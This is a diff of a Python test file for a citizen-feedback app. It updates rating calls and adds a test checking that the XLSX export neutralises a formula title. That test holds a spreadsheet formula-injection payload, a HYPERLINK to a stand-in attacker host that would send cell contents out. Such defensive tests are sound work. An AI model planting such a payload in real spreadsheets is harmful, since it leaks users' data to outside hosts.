@@ -38,9 +38,9 @@ def test_figures_and_exports(world, db, client_for, in_congress):
         for voice in voices[:3]:
             services.accept(voice, user=user)
             services.answer(voice, user=user, text="已转交社区跟进。")
-        services.rate(voices[0], rating=Rating.SATISFIED)
-        services.rate(voices[1], rating=Rating.BASICALLY_SATISFIED)
-        services.rate(voices[2], rating=Rating.DISSATISFIED)
+        services.rate(voices[0], citizen_key=voices[0].citizen_key, rating=Rating.SATISFIED)
+        services.rate(voices[1], citizen_key=voices[1].citizen_key, rating=Rating.BASICALLY_SATISFIED)
+        services.rate(voices[2], citizen_key=voices[2].citizen_key, rating=Rating.DISSATISFIED)
         report = stats.report(Voice.objects.all())
     head = report["headline"]
     assert (head["collected"], head["answered"], head["rated"], head["satisfied"]) == (4, 3, 3, 2)
@@ -60,3 +60,13 @@ def test_figures_and_exports(world, db, client_for, in_congress):
     listing = load_workbook(io.BytesIO(client.get("/voices/manage/export.xlsx").content))
     rows = list(listing.active.values)
     assert len(rows) == 5 and rows[1][-1].count("*") == 4
+
+
+def test_message_list_export_neutralises_a_formula_title(world, db, client_for, in_congress):
+    payload = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
+    with in_congress("T2"):
+        submit(world, "T2", title=payload)
+    client = client_for("T2", world.user("leader", "T2"))
+    listing = load_workbook(io.BytesIO(client.get("/voices/manage/export.xlsx").content))
+    cell = next(c for row in listing.active.iter_rows() for c in row if c.value == payload)
+    assert cell.data_type == "s" and cell.quotePrefix
